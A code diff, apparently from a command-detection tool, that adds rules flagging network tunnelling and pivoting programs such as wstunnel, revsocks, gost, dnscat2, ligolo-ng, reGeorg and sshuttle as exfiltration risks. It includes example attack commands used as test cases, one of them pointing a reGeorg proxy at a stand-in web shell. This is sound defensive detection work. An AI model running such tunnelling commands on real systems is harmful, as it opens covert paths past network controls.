@@ -83,6 +83,40 @@ pub const SECURITY: &[Program] = &[
         ..P
     },
     Program {
+        names: &[
+            "wstunnel", "revsocks", "gost", "frps", "rathole", "iodine", "iodined",
+            "dnscat", "dnscat2", "ptunnel", "ptunnel-ng", "pivotnacci", "ligolo-ng", "ligolo-agent",
+            "ligolo-proxy", "reGeorgSocksProxy.py", "neoreg.py", "udp2raw", "hans",
+        ],
+        source: "ATT&CK T1572 (protocol tunnelling), T1090 (proxy); https://github.com/erebe/wstunnel; https://github.com/kost/revsocks; https://github.com/ginuerzh/gost; https://github.com/fatedier/frp; https://github.com/rapiz1/rathole; https://github.com/yarrick/iodine; https://github.com/iagox86/dnscat2; https://github.com/nicocha30/ligolo-ng; https://github.com/sensepost/reGeorg; InternalAllTheThings network-pivoting-tools",
+        subs: &[always(
+            Exfiltration,
+            High,
+            "opens a tunnel or proxy between this machine and another network (a way in and out past the network's controls)",
+        )],
+        flagged: &[
+            "wstunnel server wss://[::]:8080",
+            "revsocks -connect clientIP:8443 -pass x",
+            "gost -L=socks5://:1080",
+            "frps -c frps.toml",
+            "python reGeorgSocksProxy.py --listen-port 8080 --url http://x.example/shell.jsp",
+        ],
+        clean: &["wstunnel --help", "gost -V"],
+        ..P
+    },
+    Program {
+        names: &["sshuttle"],
+        source: "https://sshuttle.readthedocs.io/en/stable/usage.html (routes this machine's traffic for the given subnets through an SSH server: a VPN into that network)",
+        subs: &[always(
+            Exfiltration,
+            Medium,
+            "routes this machine's traffic into another network through an SSH server (sshuttle)",
+        )],
+        flagged: &["sshuttle -vvr user@10.10.10.10 10.1.1.0/24"],
+        clean: &["sshuttle --help"],
+        ..P
+    },
+    Program {
         names: &["csrutil"],
         source: "https://developer.apple.com/documentation/security/disabling-and-enabling-system-integrity-protection",
         subs: &[
